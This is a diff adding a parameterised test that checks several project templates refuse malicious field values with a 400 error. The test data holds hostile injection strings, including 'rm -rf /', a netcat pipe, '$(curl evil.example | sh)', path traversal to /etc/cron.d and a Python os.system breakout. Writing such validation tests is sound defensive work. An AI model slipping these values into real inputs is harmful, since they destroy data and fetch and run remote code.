@@ -462,6 +462,40 @@ describe('bad input', () => {
     expect(repos()).toEqual(before);
   });
 
+  // Path traversal and shell metacharacters in any field are refused by the template's own
+  // schema when the task is submitted (400, the field named), before a step runs.
+  it.each(
+    ['new-service', 'docs-site', 'library'].flatMap(template =>
+      [
+        ['name', '../../etc/cron.d'],
+        ['name', 'svc;rm -rf /'],
+        ['name', 'svc$(id)'],
+        ['name', 'svc`id`'],
+        ['name', 'svc|nc evil 1'],
+        ['owner', 'group:default/../../platform'],
+        ['owner', 'group:default/payments; rm -rf /'],
+        ['system', 'system:default/$(reboot)'],
+        ['description', 'Takes payments $(curl evil.example | sh)'],
+        ['description', 'Breaks out """\nimport os; os.system("id")'],
+        ['description', 'Injects `id` into the README'],
+      ].map(([field, value]) => [template, field, value]),
+    ),
+  )('%s refuses %s %j with a 400 naming the field', async (template, field, value) => {
+    const before = repos();
+    const { created } = await runTask(template, {
+      ...service,
+      name: 'safe-name',
+      title: 'Safe title',
+      language: 'typescript',
+      [field]: value,
+    });
+    expect(created.status).toBe(400);
+    expect(created.body.errors.map((e: any) => e.path.join('.'))).toContain(
+      field,
+    );
+    expect(repos()).toEqual(before);
+  });
+
   it.each([
     [
       'a name taken in the catalog',
